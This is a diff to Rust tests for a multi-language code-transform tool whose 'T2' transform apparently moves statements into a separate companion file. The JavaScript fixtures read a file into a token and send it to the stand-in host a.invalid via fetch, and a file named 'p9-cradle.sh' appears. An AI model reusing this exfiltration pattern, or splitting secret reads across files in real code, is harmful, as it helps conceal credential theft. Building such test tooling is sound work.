@@ -81,7 +81,9 @@ fn every_transform_of_rust_does_something_that_parses() {
             .filter_map(|seed| run(Language::Rust, transform.id, &files, seed))
             .collect();
         assert!(!done.is_empty(), "{} is never applied", transform.id);
-        for (_, text) in done.iter().flatten() {
+        // What is moved into data is no code.
+        let is_code = |(path, _): &&(String, String)| path.ends_with(".rs");
+        for (_, text) in done.iter().flatten().filter(is_code) {
             assert!(syn::parse_file(text).is_ok(), "{}:\n{text}", transform.id);
         }
     }
@@ -134,4 +136,42 @@ fn a_language_is_told_by_the_name_of_the_shapes() {
     );
     assert_eq!(Language::of("p9-cradle.sh"), Some(Language::Shell));
     assert_eq!(Language::of("p9"), None);
+}
+
+/// The new file that the second transform puts beside one, where it moves statements.
+fn split_off(language: Language, path: &str, text: &str) -> Vec<String> {
+    let files = [file(path, text)];
+    (0..8)
+        .filter_map(|seed| run(language, "T2", &files, seed))
+        .filter_map(|files| files.into_iter().find(|(other, _)| other != path))
+        .map(|(_, text)| text)
+        .collect()
+}
+
+#[test]
+fn a_constant_that_is_computed_is_computed_in_another_file() {
+    let text = "const fs = require('fs');\nconst token = fs.readFileSync('/a');\nfetch('https://a.invalid/' + token);\n";
+    let parts = split_off(Language::JavaScript, "package/i.js", text);
+    let moves = |part: &String| part.contains("readFileSync") && part.contains("token");
+    assert!(parts.iter().any(moves), "{parts:?}");
+    let text = "import os\ntoken = open(os.path.expanduser('~/a')).read()\nprint(token)\n";
+    let parts = split_off(Language::Python, "tool/a.py", text);
+    let moves = |part: &String| part.contains("expanduser") && part.contains("token =");
+    assert!(parts.iter().any(moves), "{parts:?}");
+}
+
+#[test]
+fn what_something_runs_before_stays_behind_it() {
+    let text = "const fs = require('fs');\nfs.writeFileSync('/a', 'b');\nconst token = fs.readFileSync('/a');\nconsole.log(token);\n";
+    let parts = split_off(Language::JavaScript, "package/i.js", text);
+    assert!(
+        !parts.iter().any(|part| part.contains("readFileSync")),
+        "{parts:?}"
+    );
+    let text = "import os\nos.mkdir('a')\nnames = os.listdir('a')\nprint(names)\n";
+    let parts = split_off(Language::Python, "tool/a.py", text);
+    assert!(
+        !parts.iter().any(|part| part.contains("listdir")),
+        "{parts:?}"
+    );
 }
